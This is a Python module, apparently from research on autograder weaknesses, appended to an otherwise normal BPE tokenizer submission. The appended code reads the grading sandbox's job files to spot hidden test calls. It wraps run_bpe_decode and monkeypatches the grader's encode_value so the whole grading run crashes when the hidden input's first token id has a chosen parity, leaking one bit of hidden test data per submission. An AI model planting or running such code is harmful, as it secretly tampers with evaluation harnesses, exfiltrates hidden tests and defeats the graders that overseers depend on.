# module: tokenizer (appended to the honest tokenizer.py)
"""Row 1b: the honest tokenizer, which makes the grader fail (row 1's code point 0x110000) only in a hidden
run_bpe_decode call, and only when the hidden ids' first element is even (BIT = 0; the control sets BIT = 1).

The case ids of the running job are in /jail/job/*/job.json ("hidden_2" is a hidden call). Whether the learner is
graded at all (a graded row vs "the grader failed on this submission"; on Gradescope "The autograder failed", score
0, no tests) then tells them the parity of the hidden input's first token id.
"""
import glob as _glob
import io as _io
import json as _json
import sys as _sys

import numpy as _np

BIT = 0
_child = _sys.modules.get("grader.run.child")
_orig = _child.encode_value if _child is not None else None
_honest_decode = run_bpe_decode  # noqa: F821  (defined above, in the honest file)
_fire = [False]


def _hidden():
    names = [c["case"] for f in _glob.glob("/jail/job/*/job.json") for c in _json.load(open(f))["calls"]]
    return any("hidden" in n for n in names)


def run_bpe_decode(ids, vocab):  # noqa: F811
    _fire[0] = _hidden() and int(_np.asarray(ids).flat[0]) % 2 == BIT
    return _honest_decode(ids, vocab)


def _encode(result, returns, keys=()):
    if returns != "text" or not _fire[0]:
        return _orig(result, returns, keys)
    bad = _np.frombuffer(_np.array([0x110000], dtype="<u4").tobytes(), dtype="<U1").reshape(())
    buf = _io.BytesIO()
    _np.lib.format.write_array(buf, bad, allow_pickle=False)
    return [""], [buf.getvalue()]


if _child is not None:
    _child.encode_value = _encode
